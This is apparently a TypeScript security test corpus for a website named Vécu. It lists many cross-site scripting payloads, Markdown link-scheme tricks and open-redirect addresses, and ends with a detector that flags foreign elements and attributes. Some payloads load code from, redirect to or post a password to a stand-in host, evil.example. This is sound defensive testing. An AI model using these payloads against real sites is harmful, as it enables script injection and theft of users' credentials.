// Attempts to have a script run by way of what people may type. Each sets `window.__xss`, asks for a
// dialog or leads elsewhere when it succeeds; none may. Gathered from the public cheat sheets' classes
// of attack, written anew for the places Vécu has: text, attributes, links, and the JSON within
// scripts that hydration reads.

/** One attempt; `literal` when a text that is Markdown shows it letter by letter. */
export type Attempt = { name: string; text: string; literal: boolean };

const html: Record<string, string> = {
  "script": "<script>__xss=1</script>",
  "script, mixed case": "<ScRiPt>__xss=1</sCrIpT>",
  "script with a space": "<script >__xss=1</script >",
  "script from elsewhere": "<script src=//evil.example/x.js></script>",
  "script from data": "<script src=\"data:text/javascript,__xss=1\"></script>",
  "script, not closed": "<script>__xss=1//",
  "script, module": "<script type=module>window.__xss=1</script>",
  "script with a guessed nonce": "<script nonce=\"\">__xss=1</script>",
  "script within script": "<scr<script>ipt>__xss=1</scr</script>ipt>",
  "slash for space": "<script/x>__xss=1</script>",
  "image": "<img src=x onerror=__xss=1>",
  "image, slashes": "<img/src=x/onerror=__xss=1>",
  "image, backtick": "<img src=`x` onerror=`__xss=1`>",
  "image, no closing bracket": "<img src=x onerror=__xss=1 ",
  "image, line end in attribute": "<img src=x\nonerror\n=\n__xss=1>",
  "image, tab": "<img\tsrc=x\tonerror=__xss=1>",
  "image, doubled bracket": "<<img src=x onerror=__xss=1>",
  "svg onload": "<svg onload=__xss=1>",
  "svg, slash": "<svg/onload=__xss=1>",
  "svg script": "<svg><script>__xss=1</script></svg>",
  "svg script, entities": "<svg><script>&#95;&#95;xss=1</script></svg>",
  "svg animate": "<svg><animate onbegin=__xss=1 attributeName=x dur=1s>",
  "svg animate to a link": "<svg><a><animate attributeName=href values=javascript:__xss=1 /><text x=20 y=20>x</text></a>",
  "svg use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='__xss=1'/>#x\"/></svg>",
  "svg foreignObject": "<svg><foreignObject><body onload=__xss=1></foreignObject></svg>",
  "svg set": "<svg><set onbegin=__xss=1 attributeName=x>",
  "mathml link": "<math href=\"javascript:__xss=1\">x</math>",
  "mathml action": "<math><maction actiontype=statusline xlink:href=javascript:__xss=1>x</maction></math>",
  "mutation: math, mtext, table": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__xss=1&gt;\">",
  "mutation: svg style": "<svg></p><style><a id=\"</style><img src=1 onerror=__xss=1>\">",
  "mutation: noscript": "<noscript><p title=\"</noscript><img src=x onerror=__xss=1>\">",
  "mutation: form in form": "<form><div></form><form id=x><math><mtext></form><form><mglyph><style></math><img src onerror=__xss=1>",
  "mutation: select": "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=__xss=1>\">",
  "template": "<template><script>__xss=1</script></template><img src=x onerror=__xss=1>",
  "out of a text area": "</textarea><script>__xss=1</script>",
  "out of a text area, image": "</textarea ><img src=x onerror=__xss=1>",
  "out of a title": "</title><script>__xss=1</script>",
  "out of a style": "</style><script>__xss=1</script>",
  "out of a noscript": "</noscript><img src=x onerror=__xss=1>",
  "out of a select": "</option></select><img src=x onerror=__xss=1>",
  "out of the body": "</body></html><script>__xss=1</script>",
  "out of a script": "</script><script>__xss=1</script>",
  "out of a script, case": "</SCRIPT ><img src=x onerror=__xss=1>",
  "out of a script, slash": "</script/><svg onload=__xss=1>",
  "script in comment in script": "<!--<script>__xss=1",
  "double-escaped script": "<!--<script></script><script>__xss=1</script>-->",
  "out of a JSON text": "\"</script><script>__xss=1</script>",
  "out of a JavaScript text": "\"];__xss=1;//",
  "out of a JavaScript text, quote": "';__xss=1;'",
  "out of a template text": "${__xss=1}`+__xss=1+`",
  "backslash before the quote": "\\\";__xss=1;//",
  "out of a value": "\"><img src=x onerror=__xss=1>",
  "out of a value, single": "'><img src=x onerror=__xss=1>",
  "into a value": "\" onfocus=__xss=1 autofocus x=\"",
  "into a value, single": "' onmouseover='__xss=1' x='",
  "into a value, pointer": "x onpointerrawupdate=__xss=1 ",
  "comment": "<!-- --><img src=x onerror=__xss=1><!-- -->",
  "comment, odd end": "<!--><img src=x onerror=__xss=1>-->",
  "comment, bang": "<!--x--!><img src=x onerror=__xss=1>",
  "CDATA": "<![CDATA[<img src=x onerror=__xss=1>]]>",
  "processing instruction": "<?xml-stylesheet href=\"javascript:__xss=1\"?>",
  "doctype": "<!DOCTYPE x [<!ENTITY y \"<script>__xss=1</script>\">]>",
  "style import": "<style>@import '//evil.example/x.css';</style>",
  "style attribute": "<div style=\"background:url(javascript:__xss=1)\">x</div>",
  "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
  "import of a module": "<link rel=modulepreload href=//evil.example/x.js>",
  "meta refresh": "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
  "meta refresh to data": "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>__xss=1</script>\">",
  "base": "<base href=//evil.example/>",
  "form": "<form action=javascript:__xss=1><button>x</button></form>",
  "form elsewhere": "<form action=//evil.example><input name=password></form>",
  "button with an action": "<button formaction=javascript:__xss=1>x</button>",
  "frame": "<iframe src=javascript:__xss=1></iframe>",
  "frame with a document": "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
  "object": "<object data=javascript:__xss=1></object>",
  "embed": "<embed src=javascript:__xss=1>",
  "details": "<details open ontoggle=__xss=1>x</details>",
  "video": "<video><source onerror=__xss=1></video>",
  "audio": "<audio src onloadstart=__xss=1>",
  "marquee": "<marquee onstart=__xss=1>x</marquee>",
  "input": "<input autofocus onfocus=__xss=1>",
  "dialog": "<dialog open onclose=__xss=1><form method=dialog><button>x</button></form></dialog>",
  "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=__xss=1>x</div>",
  "custom element": "<x-y tabindex=1 onfocus=__xss=1 id=x></x-y>",
  "content visibility": "<p oncontentvisibilityautostatechange=__xss=1 style=display:block;content-visibility:auto>x",
  "clobbering": "<a id=__RESOLVED_RESOURCES></a><form name=body><input name=firstChild></form>",
  "clobbering of the root": "<img name=documentElement><p id=content>x</p>",
  "link in HTML": "<a href=javascript:__xss=1>x</a>",
  "link in HTML, entity": "<a href=\"jav&#x0A;ascript:__xss=1\">x</a>",
  "link in HTML, ping": "<a href=# ping=//evil.example>x</a>",
  "full-width brackets": "＜script＞__xss=1＜/script＞",
  "overlong look-alikes": "‹script›__xss=1‹/script›",
  "line separator": "\u2028__xss=1\u2029<img src=x onerror=__xss=1>",
  "soft hyphen": "<scr\u00ADipt>__xss=1</scr\u00ADipt>",
  "zero width": "<\u200Bscript>__xss=1</\u200Bscript>",
  "long s": "<\u017Fcript>__xss=1</\u017Fcript>",
  "Kelvin sign": "<\u212Abd onfocus=__xss=1 autofocus tabindex=1>",
  "lone surrogate written out": "\\uD800<img src=x onerror=__xss=1>",
};

const markdown: Record<string, string> = {
  "link": "[x](javascript:__xss=1)",
  "link, case": "[x](JaVaScRiPt:__xss=1)",
  "link, entity": "[x](javascript&#58;__xss=1)",
  "link, named entity": "[x](javascript&colon;__xss=1)",
  "link, tab inside": "[x](java&Tab;script:__xss=1)",
  "link, line end inside": "[x](java&NewLine;script:__xss=1)",
  "link, space before": "[x](<  javascript:__xss=1>)",
  "link, control character": "[x](&#1;javascript:__xss=1)",
  "link, backslash": "[x](javascript\\:__xss=1)",
  "link, percent": "[x](javascript%3A__xss=1)",
  "link, data": "[x](data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+)",
  "link, vbscript": "[x](vbscript:__xss=1)",
  "link, file": "[x](file:///etc/passwd)",
  "link, blob": "[x](blob:https://evil.example/x)",
  "link, no scheme": "[x](//evil.example/x)",
  "link, title": "[x](https://exemple.fr \"x\\\" onclick=__xss=1 y=\")",
  "link, quote in address": "[x](https://exemple.fr/\"onclick=__xss=1)",
  "link, HTML in text": "[<img src=x onerror=__xss=1>](https://exemple.fr)",
  "image": "![x](javascript:__xss=1)",
  "image, event": "![x\" onerror=\"__xss=1](x)",
  "image in link": "[![x](x\"onerror=__xss=1)](javascript:__xss=1)",
  "autolink": "<javascript:__xss=1>",
  "autolink, data": "<data:text/html,<script>__xss=1</script>>",
  "autolink, http": "<https://exemple.fr/\"onclick=__xss=1>",
  "reference": "[x][y]\n\n[y]: javascript:__xss=1",
  "reference, title": "[x][y]\n\n[y]: https://exemple.fr '\" onclick=__xss=1 \"'",
  "reference, collapsed": "[javascript][]\n\n[javascript]: javascript:__xss=1",
  "nested links": "[a [b](javascript:__xss=1)](javascript:__xss=1)",
  "code fence, language": "```\"><img/src=x/onerror=__xss=1>\nx\n```",
  "code": "`</code><img src=x onerror=__xss=1>`",
  "code block": "    </pre><script>__xss=1</script>",
  "heading": "# <script>__xss=1</script>",
  "heading with attributes": "# x {onclick=__xss=1 #content .btn}",
  "list, HTML within": "- <img src=x onerror=__xss=1>\n- [x](javascript:__xss=1)",
  "quote, HTML within": "> <script>\n> __xss=1\n> </script>",
  "table": "|x|\n|-|\n|<img src=x onerror=__xss=1>|",
  "footnote": "[^1]\n\n[^1]: <script>__xss=1</script>",
  "escaped entities": "&lt;script&gt;__xss=1&lt;/script&gt;",
  "numbered entities": "&#60;img src=x onerror=__xss=1&#62;",
  "entities without semicolon": "&#x3Cimg src=x onerror=__xss=1&#x3E",
  "doubly escaped": "&amp;lt;script&amp;gt;__xss=1&amp;lt;/script&amp;gt;",
  "percent": "%3Cscript%3E__xss=1%3C%2Fscript%3E",
  "JavaScript escapes": "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
  "hex escapes": "\\x3cscript\\x3e__xss=1\\x3c/script\\x3e",
  "emphasis across a tag": "<img src=x *onerror=__xss=1* >",
};

const attempts = (from: Record<string, string>, kind: string, literal: boolean): Attempt[] =>
  Object.entries(from).map(([name, text]) => ({
    name: `${kind}: ${name}`,
    text,
    // Backticks and backslashes mean something in Markdown.
    // Markdown reads some of it: code, escapes, a line of `=` under a title, character references.
    literal: literal && !/`|\\[^\w]|\n=\n|&#?\w+;/.test(text),
  }));

export const corpus: Attempt[] = [...attempts(html, "HTML", true), ...attempts(markdown, "Markdown", false)];

/** Addresses that a redirect must not lead to. */
export const elsewhere = [
  "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example", "https:evil.example",
  "javascript:__xss=1", "JaVaScRiPt:__xss=1", " javascript:__xss=1", "data:text/html,<script>__xss=1</script>",
  "/%09/evil.example\t", "/\t/evil.example", "/\n/evil.example", "/x\r\nSet-Cookie: a=b", "", ".", "evil.example", "/\u2028",
];

/**
 * What stands in a document and is not ours, by name: run within the page, or on a parsed answer.
 * Everything is listed that may be there; anything else is a finding.
 */
export function foreign(root: Document): string[] {
  const tags = new Set(
    "html head meta title link script body a abbr article aside blockquote br button code dd details div dl dt em fieldset footer form h1 h2 h3 h4 header hr input label legend li main mark nav ol option p pre section select span strong summary svg g path use textarea time ul".split(" "),
  );
  const found: string[] = [];
  const say = (element: Element, why: string) => found.push(`${why}: ${element.outerHTML.slice(0, 160)}`);
  for (const element of root.querySelectorAll("*")) {
    const name = element.tagName.toLowerCase();
    if (!tags.has(name)) say(element, "an element that is not ours");
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^ping$|^autofocus$|^contenteditable$|^formaction$|^background$|^http-equiv$|^nonce.+|^xlink:/i.test(attribute)) say(element, `an attribute ${attribute}`);
      if (/^(href|src|action|data|poster|cite)$/i.test(attribute)) {
        const plain = value.replace(/[\s\u0000-\u0020]/g, "");
        const fine = name === "use" ? /^\/icons\.svg#i-[a-z-]+$/.test(plain)
          // A search is asked for by its address; every other form posts to the page it stands on.
          : name === "form" ? plain === "" || (plain === "/search" && element.matches("[role=search]:not([method])"))
          : name === "a" ? /^(https?:\/\/|tel:|sms:|\/(?!\/)|#|\?|$)/i.test(plain)
          // What a page says of itself to programs is whole: its own address and its feed's, on this site.
          : name === "link" && /^(canonical|alternate)$/.test(element.getAttribute("rel") ?? "") ? /^http:\/\/localhost:\d+\//.test(plain)
          : /^\/(?!\/)/.test(plain);
        if (!fine) say(element, `an address in ${attribute}`);
      }
    }
    if (name === "script") {
      const script = element as HTMLScriptElement;
      const nonce = script.nonce || script.getAttribute("nonce");
      const type = script.getAttribute("type") ?? "";
      if (!/^(|module|application\/ld\+json)$/.test(type)) say(element, "a script of a kind that is not ours");
      if (!nonce && !/^\/pkg\/|^\/(live|device)\.js$/.test(script.getAttribute("src") ?? "")) say(element, "a script without the nonce");
    }
    if (name === "link" && !/^(stylesheet|icon|apple-touch-icon|manifest|modulepreload|preload|canonical|alternate)$/.test(element.getAttribute("rel") ?? "")) say(element, "a link of a kind that is not ours");
  }
  for (const node of root.body?.childNodes ?? []) {
    if (node.nodeType === 3 && node.textContent?.trim()) found.push(`text that spilled into the page: ${node.textContent.trim().slice(0, 100)}`);
  }
  return found.slice(0, 5);
}
